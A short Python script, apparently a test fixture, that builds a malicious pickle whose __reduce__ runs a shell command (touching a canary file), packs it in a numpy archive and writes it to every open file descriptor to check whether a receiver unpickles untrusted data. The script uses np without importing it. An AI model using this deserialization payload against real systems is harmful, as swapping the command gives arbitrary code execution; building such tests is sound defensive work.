"""Sends back a pickle that writes a file where it is opened."""
import io
import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch @CANARY@/owned",)


buffer = io.BytesIO()
np.savez(buffer, **{"rows/0/": np.array([Bomb()], dtype=object)}, allow_pickle=True)
frame = len(buffer.getvalue()).to_bytes(8, "big") + buffer.getvalue()
for fd in range(1, 64):
    try:
        os.write(fd, frame)
    except OSError:
        pass
os._exit(0)
